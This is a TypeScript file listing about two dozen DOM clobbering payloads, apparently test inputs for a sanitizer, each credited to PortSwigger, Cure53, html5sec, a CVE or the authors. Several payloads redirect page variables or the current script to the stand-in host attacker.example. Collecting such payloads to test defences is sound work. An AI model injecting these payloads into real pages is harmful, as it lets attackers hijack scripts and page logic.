import type { Attack } from './attack';

/** Names that take the place of properties of the document and of the window. */
export const clobbering: readonly Attack[] = [
  ['the cookie', '<img name="cookie" src="https://attacker.example/1.png">', 'PortSwigger'],
  ['the body', '<form name="body"><input></form>', 'PortSwigger'],
  ['the head', '<form name=head></form>', 'Cure53'],
  ['a lookup by id', '<img name=getElementById src=x>', 'html5sec'],
  ['a lookup by selector', '<form name=querySelector></form>', 'Cure53'],
  ['the making of elements', '<form name="createElement"></form>', 'html5sec'],
  ['the writing', '<embed name=write>', 'Cure53'],
  ['the forms', '<img id=forms name=forms src=x>', 'html5sec'],
  ['the location', '<form name=location><input name=href></form>', 'PortSwigger'],
  [
    'the current script',
    '<img name="currentScript" src="https://attacker.example/x.js">',
    'CVE-2024-43788',
  ],
  ['the implementation', '<object name=implementation></object>', 'Cure53'],
  ['the window of the document', '<object name=defaultView></object>', 'Cure53'],
  ['the element in focus', '<img name=activeElement src=x>', 'Cure53'],
  ['the state of loading', '<img name=readyState src=x>', 'Cure53'],
  [
    'the children of a form',
    '<form name=children><input name=attributes><input name=nodeName></form>',
    'Cure53',
  ],
  ['a variable of the page', '<a id=config href="https://attacker.example/">x</a>', 'PortSwigger'],
  [
    'a variable and its property',
    '<a id=config></a><a id=config name=url href="https://attacker.example/">x</a>',
    'PortSwigger',
  ],
  [
    'a variable and a deep property',
    '<form id=config name=api><input id=api name=url value="https://attacker.example/"></form>',
    'PortSwigger',
  ],
  ['the state of Next.js', '<p id="__next_f">x</p>', 'ours'],
  ['an id of the page', '<h2 id="contenu">x</h2>', 'ours'],
  ['an id of a prototype', '<h2 id="__proto__">x</h2><h2 id="constructor">y</h2>', 'Cure53'],
  [
    'a frame under a name',
    '<iframe name=config srcdoc="<a id=url href=https://attacker.example/></a>"></iframe>',
    'PortSwigger',
  ],
  ['a slug of a heading', '<h2 id="cookie">cookie</h2><h2 id=x>cookie</h2>', 'ours'],
  ['a list of pictures', '<img name=images src=x><img name=images src=x>', 'Cure53'],
];
